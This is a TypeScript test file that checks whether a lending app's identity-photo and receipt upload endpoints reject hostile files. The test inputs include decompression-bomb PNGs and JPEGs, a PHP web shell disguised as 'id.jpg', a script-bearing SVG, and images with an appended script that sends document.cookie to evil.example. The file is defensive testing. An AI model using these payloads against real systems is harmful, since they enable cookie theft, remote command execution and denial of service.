import { createDeflate } from 'node:zlib';
import { ERRORS, type ErrorName, errorMessage, IDENTITY_IMAGE_NAMES, IMAGE_RULES } from '@puente/domain';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { assemblePng, goodPhoto, makeJpeg } from '../testing/images.ts';
import { putProfile, TEST_CURP } from '../testing/onboarding-fixtures.ts';
import { startTestService, type TestFile, type TestService } from '../testing/test-service.ts';

/** Every call that takes a photo (`upload: true`), with the name its refusals give the photo. */
const UPLOAD_CALLS = [
  { path: '/user/upload/curp/back', photo: IDENTITY_IMAGE_NAMES.back.en },
  { path: '/user/upload/curp/front', photo: IDENTITY_IMAGE_NAMES.front.en },
  { path: '/user/saveFaceImage', photo: IDENTITY_IMAGE_NAMES.face.en },
  { path: '/repay/upload/user/voucher', photo: 'receipt photo' },
] as const;

/** The multipart limit in app.ts: past it the part is cut off before it is ever whole in memory. */
const MULTIPART_LIMIT_BYTES = 8 * 1024 * 1024;
const MB = 1024 * 1024;

/** A real PNG whose header declares `width` × `height` and whose pixel data inflates to all of it. */
async function pngBomb(width: number, height: number, bitDepth: 1 | 8): Promise<Buffer> {
  const rowBytes = 1 + Math.ceil((width * bitDepth) / 8);
  const deflate = createDeflate({ level: 9 });
  const parts: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => parts.push(chunk));
  const done = new Promise((resolve) => deflate.on('end', resolve));
  // Rows of zeros, written a block at a time so the test itself never holds the inflated image.
  const rowsPerBlock = Math.max(1, Math.floor(MB / rowBytes));
  const block = Buffer.alloc(rowsPerBlock * rowBytes);
  for (let y = 0; y < height; y += rowsPerBlock) {
    const rows = Math.min(rowsPerBlock, height - y);
    if (!deflate.write(rows === rowsPerBlock ? block : block.subarray(0, rows * rowBytes))) {
      await new Promise((resolve) => deflate.once('drain', resolve));
    }
  }
  deflate.end();
  await done;
  return assemblePng(width, height, bitDepth, Buffer.concat(parts));
}

const SCRIPT = Buffer.from(
  '\n<script>fetch("https://evil.example/?c="+document.cookie)</script>\n<?php system($_GET["c"]); ?>\n',
);

/** Files that are not images, each sent with an image name and an image type. */
const NOT_IMAGES: { what: string; file: TestFile }[] = [
  {
    what: 'a PHP script',
    file: {
      data: Buffer.from('<?php system($_GET["c"]); ?>\n'.repeat(100)),
      filename: 'id.jpg',
      contentType: 'image/jpeg',
    },
  },
  {
    what: 'an SVG with a script',
    file: {
      data: Buffer.from(
        `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script>${' '.repeat(2000)}</svg>`,
      ),
      filename: 'id.png',
      contentType: 'image/png',
    },
  },
  {
    what: 'an HTML page',
    file: {
      data: Buffer.from(`<!doctype html><html>${'<p>hi</p>'.repeat(300)}</html>`),
      filename: 'id.webp',
      contentType: 'image/webp',
    },
  },
  {
    what: 'a ZIP archive',
    file: {
      data: Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(4000, 1)]),
      filename: 'face.jpeg',
      contentType: 'image/jpeg',
    },
  },
  {
    what: 'an ELF program',
    file: {
      data: Buffer.concat([Buffer.from('\x7fELF'), Buffer.alloc(4000, 2)]),
      filename: 'receipt.png',
      contentType: 'image/png',
    },
  },
  {
    what: 'a GIF',
    file: {
      data: Buffer.concat([Buffer.from('GIF89a'), Buffer.alloc(4000, 3)]),
      filename: 'receipt.gif',
      contentType: 'image/gif',
    },
  },
];

describe('hostile uploads, on pglite', () => {
  let s: TestService;
  let token: string;
  const refusals: Record<string, string> = {};

  beforeAll(async () => {
    s = await startTestService('pglite');
    const b = await s.newBorrower();
    token = b.token;
    await putProfile(s, b.userId, TEST_CURP, { firstName: 'Ana', lastName: 'Gómez', birthday: '1990-05-14' });
  });
  afterAll(async () => {
    console.log('hostile uploads: what each file is answered');
    console.table(refusals);
    await s?.close();
  });

  /** Sends the file to every upload call and expects the same named refusal from each. */
  async function refusedEverywhere(what: string, file: TestFile, name: ErrorName) {
    for (const call of UPLOAD_CALLS) {
      const answer = await s.upload(call.path, file, {}, { token });
      const params = { photo: call.photo, maxMb: IMAGE_RULES.maxBytes / MB, maxPx: IMAGE_RULES.maxSidePx };
      expect({ path: call.path, status: answer.status, code: answer.code, msg: answer.msg }).toEqual({
        path: call.path,
        status: ERRORS[name].http,
        code: ERRORS[name].code,
        msg: errorMessage(name, 'en', params),
      });
      refusals[what] = `${answer.status} ${answer.code} ${answer.msg.replace(call.photo, '{photo}')}`;
    }
  }

  it('refuses decompression bombs without inflating them, and stays within memory', {
    timeout: 60_000,
  }, async () => {
    const pngBomb30k = await pngBomb(30_000, 30_000, 1);
    const jpegBomb = makeJpeg(30_000, 30_000, 20_000);
    // Within the size limit, the most a photo may declare: it is taken, and the sandbox identity
    // check that inflates its pixels must not blow up either.
    const pngAtLimit = await pngBomb(IMAGE_RULES.maxSidePx, IMAGE_RULES.maxSidePx, 8);
    // Resident memory after each step, against what it was before the first: a reader that inflated
    // a bomb would leave hundreds of MB (or the process) behind. The high-water mark is shown too.
    const rss = () => process.memoryUsage().rss / MB;
    const before = rss();
    const peakBefore = process.resourceUsage().maxRSS / 1024;
    let highest = before;
    const step = async <T>(work: Promise<T>): Promise<T> => {
      const result = await work;
      highest = Math.max(highest, rss());
      return result;
    };

    await step(
      refusedEverywhere(
        `a ${Math.round(pngBomb30k.length / 1024)} KB PNG declaring 30000 × 30000 (3.6 GB as RGBA)`,
        { data: pngBomb30k, filename: 'bomb.png', contentType: 'image/png' },
        'imageTooLarge',
      ),
    );
    await step(refusedEverywhere('a JPEG declaring 30000 × 30000', { data: jpegBomb }, 'imageTooLarge'));
    const back = await step(s.upload('/user/upload/curp/back', { data: pngAtLimit }, {}, { token }));
    const front = await step(s.upload('/user/upload/curp/front', { data: pngAtLimit }, {}, { token }));
    const ocr = await step(s.call('POST', '/user/curp/ocr', {}, { token }));
    const peakAfter = process.resourceUsage().maxRSS / 1024;
    refusals[`a ${Math.round(pngAtLimit.length / 1024)} KB PNG declaring 8192 × 8192, then OCR`] =
      `${back.status} ${back.code}; OCR ${ocr.status} ${ocr.code} ${ocr.msg}`;
    refusals['resident memory before → highest after a bomb (MB)'] =
      `${before.toFixed(0)} → ${highest.toFixed(0)}`;
    refusals['peak resident memory mark before → after (MB)'] =
      `${peakBefore.toFixed(0)} → ${peakAfter.toFixed(0)}`;
    for (const answer of [back, front, ocr]) {
      expect(answer.status).toBeLessThan(500);
      expect(typeof answer.code).toBe('number');
      expect(answer.msg).toEqual(expect.any(String));
    }
    expect(highest - before).toBeLessThan(200);
    expect(peakAfter - peakBefore).toBeLessThan(200);
  });

  it('refuses a file past the multipart limit as too large, and one past the photo limit by name', async () => {
    const huge = Buffer.concat([goodPhoto(1), Buffer.alloc(MULTIPART_LIMIT_BYTES + MB, 7)]);
    // Cut off by the protocol before any call reads it, so the refusal is the protocol's own.
    await refusedEverywhere(
      `a ${huge.length >> 20} MB file (past the 8 MB multipart limit)`,
      { data: huge },
      'requestTooLarge',
    );
    const large = makeJpeg(1000, 1000, IMAGE_RULES.maxBytes + 100_000);
    await refusedEverywhere('a 5.1 MB JPEG (past the 5 MB photo limit)', { data: large }, 'imageTooLarge');
  });

  it('refuses files that are not images whatever their name and type', async () => {
    for (const { what, file } of NOT_IMAGES) await refusedEverywhere(what, file, 'imageNotSupported');
  });

  it('refuses real images carrying a script after their end, and truncated images', async () => {
    await refusedEverywhere(
      'a PNG with a script appended',
      { data: Buffer.concat([goodPhoto(2), SCRIPT]) },
      'imageDamaged',
    );
    const jpeg = makeJpeg(800, 600);
    await refusedEverywhere(
      'a JPEG with a script appended',
      { data: Buffer.concat([jpeg, SCRIPT]) },
      'imageDamaged',
    );
    const png = goodPhoto(3);
    await refusedEverywhere('a PNG cut in half', { data: png.subarray(0, png.length >> 1) }, 'imageDamaged');
    await refusedEverywhere(
      'a JPEG cut before its end',
      { data: jpeg.subarray(0, jpeg.length - 100) },
      'imageDamaged',
    );
  });
});
